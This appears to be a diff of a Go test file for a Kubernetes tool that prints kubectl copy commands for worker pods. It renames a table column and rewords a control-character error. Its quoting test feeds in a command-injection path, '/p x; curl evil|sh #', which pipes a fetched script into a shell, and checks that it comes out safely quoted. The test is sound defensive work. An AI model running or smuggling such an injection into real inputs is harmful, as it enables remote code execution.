@@ -37,7 +37,7 @@ func TestCollect(t *testing.T) {
 		require.NoError(t, err)
 	}
 	require.NoError(t, run(collectOptions{list: true}))
-	require.Equal(t, "WORKER   CLAIM                  NODE   POD IS\n0        count-0-x-persistent   n1     Succeeded\n1        count-1-x-persistent   n1     Running\n", out.String())
+	require.Equal(t, "WORKER   CLAIM                  NODE   POD-PHASE\n0        count-0-x-persistent   n1     Succeeded\n1        count-1-x-persistent   n1     Running\n", out.String())
 	require.NoError(t, run(collectOptions{image: "tools"}))
 	require.Equal(t, "kubectl wait -n team pod/count-collect-0 --for=condition=Ready && kubectl cp -n team count-collect-0:/persistent count/worker-0\n# worker 1 has not ended\n", out.String())
 	pod, err := kube.CoreV1().Pods("team").Get(t.Context(), "count-collect-0", metav1.GetOptions{})
@@ -56,8 +56,8 @@ func TestCollectQuotes(t *testing.T) {
 	for path, says := range map[string]string{
 		"/p x; curl evil|sh #": "count-collect-0:'/p x; curl evil|sh #' count/worker-0\n",
 		"/it's":                `count-collect-0:'/it'\''s' count/worker-0` + "\n",
-		"/p\nevil":             `"/p\nevil" has control characters`,
-		"/p\x1b[2J":            `"/p\x1b[2J" has control characters`,
+		"/p\nevil":             `"/p\nevil" contains control characters`,
+		"/p\x1b[2J":            `"/p\x1b[2J" contains control characters`,
 	} {
 		kube, s := fake.NewClientset(), settings("count")
 		s.VolumePerWorker, s.AccessMode = true, corev1.ReadWriteOnce
